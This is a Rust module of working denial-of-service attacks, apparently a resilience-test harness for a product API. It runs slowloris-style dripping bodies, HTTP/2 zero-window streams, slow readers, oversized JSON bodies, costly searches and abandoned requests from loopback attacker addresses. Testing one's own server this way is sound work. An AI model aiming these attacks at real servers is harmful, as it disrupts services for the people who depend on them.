//! The attacks. Each replaces closed connections until it is dropped.

use std::{net::SocketAddr, time::Duration};

use bytes::Bytes;
use h2::client::SendRequest;
use http::Request;
use serde_json::json;
use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _},
    net::{TcpSocket, TcpStream},
    task::JoinSet,
    time::sleep,
};

/// The target, and the number of attacking clients.
#[derive(Clone, Debug)]
pub struct Target {
    pub address: SocketAddr,
    pub image: String,
    pub clients: usize,
    /// Interval between the bytes of a body.
    pub drip: Duration,
    /// Size of a batch in bytes, about.
    pub batch_bytes: usize,
    /// HTTP/2 streams of each connection.
    pub streams: usize,
}

/// An attack; it ends on drop.
pub type Attack = JoinSet<()>;

pub type Begin = fn(&Target) -> Attack;

pub const ATTACKS: &[(&str, Begin)] = &[
    ("open_bodies", open_bodies),
    ("shut_windows", shut_windows),
    ("slow_readers", slow_readers),
    ("event_streams", event_streams),
    ("many_names", many_names),
    ("dripping_bodies", dripping_bodies),
    ("large_batches", large_batches),
    ("costly_searches", costly_searches),
    ("abandoned_lists", abandoned_lists),
    ("abandoned_batches", abandoned_batches),
];

/// HTTP/2 connections of one attack.
const CONNECTIONS: usize = 8;
/// The attackers' addresses, different from that of good clients. Most attacks come from the first.
const ATTACKERS: [[u8; 4]; 2] = [[127, 66, 0, 1], [127, 66, 0, 2]];
/// Bodies that each of two attackers keeps open: together more than the server reads at a time.
const BODIES_OF_EACH: usize = 280;
/// Connections with batches, and those with searches.
const LARGE_REQUESTS: usize = 8;
/// Connections with lists that are abandoned.
const ABANDONED_LISTS: usize = 64;
/// Pause before a retry.
const PAUSE: Duration = Duration::from_millis(50);

/// HTTP/2 requests whose bodies do not arrive: as many as the server processes at a time.
fn open_bodies(target: &Target) -> Attack {
    multiplexed(target, 65_535, |_, address| {
        let head = Request::post(format!("http://{address}/products")).header("content-type", "application/json");
        (head.header("content-length", "100").body(()).expect("a request"), false)
    })
}

/// Large HTTP/2 responses that the client does not read.
fn shut_windows(target: &Target) -> Attack {
    let image = target.image.clone();
    multiplexed(target, 0, move |number, address| {
        let path = if number % 2 == 0 { "/products?limit=100" } else { image.as_str() };
        (Request::get(format!("http://{address}{path}")).body(()).expect("a request"), true)
    })
}

/// Connections that read one byte per second of a large response.
fn slow_readers(target: &Target) -> Attack {
    let image = target.image.clone();
    each_client(target, move |number| {
        let path = if number % 2 == 0 { "/products?limit=100".to_owned() } else { image.clone() };
        format!("GET {path} HTTP/1.1\r\nHost: localhost\r\n\r\n").into_bytes()
    })
}

/// As many streams of events as one client may open.
fn event_streams(target: &Target) -> Attack {
    each_client(target, |_| b"GET /events HTTP/1.1\r\nHost: localhost\r\n\r\n".to_vec())
}

/// Bodies of the maximum size with only field names.
fn many_names(target: &Target) -> Attack {
    let mut attack = JoinSet::new();
    for path in ["/products", "/products:batch", "/products", "/products:batch"] {
        let size = if path == "/products" { 1 << 20 } else { 8 << 20 };
        let mut body = String::from("{");
        for number in 0.. {
            let name = format!("\"k{number}\":1,");
            if body.len() + name.len() + 8 > size {
                break;
            }
            body.push_str(&name);
        }
        body.push_str("\"k\":1}");
        let (address, body) = (target.address, body.into_bytes());
        attack.spawn(async move {
            let head = head_of(path, body.len());
            loop {
                let _ = send_and_read(address, head.as_bytes(), &body).await;
                sleep(PAUSE).await;
            }
        });
    }
    attack
}

/// Bodies that arrive byte by byte, from two addresses.
fn dripping_bodies(target: &Target) -> Attack {
    let mut attack = JoinSet::new();
    for number in 0..BODIES_OF_EACH * ATTACKERS.len() {
        let (address, interval) = (target.address, target.drip);
        attack.spawn(async move {
            loop {
                let _ = drip(address, ATTACKERS[number % ATTACKERS.len()], interval).await;
                sleep(PAUSE).await;
            }
        });
    }
    attack
}

async fn drip(address: SocketAddr, attacker: [u8; 4], interval: Duration) -> std::io::Result<()> {
    let mut stream = connect(address, attacker, None).await?;
    let head =
        "POST /products HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: 4000\r\n\r\n";
    stream.write_all(head.as_bytes()).await?;
    loop {
        stream.write_all(b" ").await?;
        let mut answer = [0; 64];
        // The server answers only when it gives up.
        if let Ok(read) = tokio::time::timeout(interval, stream.read(&mut answer)).await {
            return read.map(|_| ());
        }
    }
}

/// Valid batches of the maximum size, whose texts have many different words.
fn large_batches(target: &Target) -> Attack {
    let mut attack = JoinSet::new();
    let body = batch_of(target.batch_bytes);
    for _ in 0..LARGE_REQUESTS {
        let (address, body) = (target.address, body.clone());
        attack.spawn(async move {
            let head = head_of("/products:batch", body.len());
            loop {
                let _ = send_and_read(address, head.as_bytes(), &body).await;
                sleep(PAUSE).await;
            }
        });
    }
    attack
}

/// Returns a batch of about this size.
fn batch_of(bytes: usize) -> Bytes {
    let product = |number: usize| {
        let words: Vec<_> = (0..1_000).map(|word| format!("{:x}", word * 7 + number)).collect();
        let description = format!("{} a b c d e f g h i j", words.join(" "));
        json!({"user_id": "large", "product_name": "large", "product_price": 1, "product_description": description})
            .to_string()
    };
    let count = (bytes / product(0).len()).clamp(1, 1_000);
    let body: Vec<_> = (0..count).map(product).collect();
    format!("[{}]", body.join(",")).into()
}

/// Searches for many words that each occur in many products, from two addresses.
fn costly_searches(target: &Target) -> Attack {
    let mut attack = JoinSet::new();
    for number in 0..LARGE_REQUESTS * ATTACKERS.len() {
        let address = target.address;
        attack.spawn(async move {
            let head = b"GET /products?q=a+b+c+d+e+f+g+h+i+j HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n";
            loop {
                let _ = search(address, ATTACKERS[number % ATTACKERS.len()], head).await;
                sleep(PAUSE).await;
            }
        });
    }
    attack
}

async fn search(address: SocketAddr, attacker: [u8; 4], head: &[u8]) -> std::io::Result<()> {
    let mut stream = connect(address, attacker, None).await?;
    stream.write_all(head).await?;
    stream.read_to_end(&mut Vec::new()).await.map(|_| ())
}

/// Costly lists whose clients disconnect before the answer.
fn abandoned_lists(target: &Target) -> Attack {
    let head = "GET /products?q=a&sort=product_price&limit=100 HTTP/1.1\r\nHost: localhost\r\n\r\n";
    abandoned(target, ABANDONED_LISTS, head.into(), PAUSE * 2)
}

/// Batches whose clients disconnect before the answer.
fn abandoned_batches(target: &Target) -> Attack {
    let body = batch_of(target.batch_bytes);
    let request = [head_of("/products:batch", body.len()).as_bytes(), &body].concat();
    abandoned(target, LARGE_REQUESTS, request.into(), PAUSE * 6)
}

/// Connections that send a request and disconnect after `wait`.
fn abandoned(target: &Target, connections: usize, request: Bytes, wait: Duration) -> Attack {
    let mut attack = JoinSet::new();
    for _ in 0..connections {
        let (address, request) = (target.address, request.clone());
        attack.spawn(async move {
            loop {
                let stream = send(address, &request).await;
                sleep(wait).await;
                drop(stream);
            }
        });
    }
    attack
}

async fn send(address: SocketAddr, request: &[u8]) -> std::io::Result<TcpStream> {
    let mut stream = connect(address, ATTACKERS[0], None).await?;
    stream.write_all(request).await?;
    Ok(stream)
}

fn head_of(path: &str, length: usize) -> String {
    format!(
        "POST {path} HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: {length}\r\n\r\n"
    )
}

async fn connect(address: SocketAddr, attacker: [u8; 4], receive_buffer: Option<u32>) -> std::io::Result<TcpStream> {
    let socket = TcpSocket::new_v4()?;
    socket.bind((attacker, 0).into())?;
    if let Some(bytes) = receive_buffer {
        socket.set_recv_buffer_size(bytes)?;
    }
    socket.connect(address).await
}

async fn send_and_read(address: SocketAddr, head: &[u8], body: &[u8]) -> std::io::Result<()> {
    let mut stream = connect(address, ATTACKERS[0], None).await?;
    stream.write_all(head).await?;
    stream.write_all(body).await?;
    let mut answer = [0; 4_096];
    stream.read(&mut answer).await.map(|_| ())
}

/// HTTP/2 streams with windows of this size; each sends one request after the other.
fn multiplexed(
    target: &Target,
    window: u32,
    request: impl Fn(usize, SocketAddr) -> (Request<()>, bool) + Clone + Send + Sync + 'static,
) -> Attack {
    let mut attack = JoinSet::new();
    for _ in 0..CONNECTIONS {
        let (address, streams, request) = (target.address, target.streams, request.clone());
        attack.spawn(async move {
            loop {
                let _ = one_connection(address, (streams, window), &request).await;
                sleep(PAUSE).await;
            }
        });
    }
    attack
}

async fn one_connection(
    address: SocketAddr,
    (streams, window): (usize, u32),
    request: &(impl Fn(usize, SocketAddr) -> (Request<()>, bool) + Clone + Send + Sync + 'static),
) -> anyhow::Result<()> {
    let stream = connect(address, ATTACKERS[0], None).await?;
    let (send, connection) =
        h2::client::Builder::new().initial_window_size(window).handshake::<_, Bytes>(stream).await?;
    let mut tasks = JoinSet::new();
    for number in 0..streams {
        let (send, request) = (send.clone(), request.clone());
        tasks.spawn(async move {
            loop {
                let (request, ends) = request(number, address);
                let _ = one_stream(send.clone(), request, ends).await;
                sleep(PAUSE).await;
            }
        });
    }
    // The streams end with the connection.
    Ok(connection.await?)
}

/// Waits for the response head, and reads nothing of its body.
async fn one_stream(send: SendRequest<Bytes>, request: Request<()>, ends: bool) -> Result<(), h2::Error> {
    let mut send = send.ready().await?;
    let (answer, _body) = send.send_request(request, ends)?;
    let mut answer = answer.await?;
    while let Some(piece) = answer.body_mut().data().await {
        piece?;
    }
    Ok(())
}

/// One HTTP/1.1 connection for each client, read at one byte per second.
fn each_client(target: &Target, request: impl Fn(usize) -> Vec<u8>) -> Attack {
    let mut attack = JoinSet::new();
    for number in 0..target.clients {
        let (address, request) = (target.address, request(number));
        attack.spawn(async move {
            loop {
                let _ = read_slowly(address, &request).await;
                sleep(PAUSE * 10).await;
            }
        });
    }
    attack
}

async fn read_slowly(address: SocketAddr, request: &[u8]) -> std::io::Result<()> {
    let mut stream = connect(address, ATTACKERS[0], Some(2_048)).await?;
    stream.write_all(request).await?;
    let mut byte = [0];
    while stream.read(&mut byte).await? > 0 {
        sleep(Duration::from_secs(1)).await;
    }
    Ok(())
}
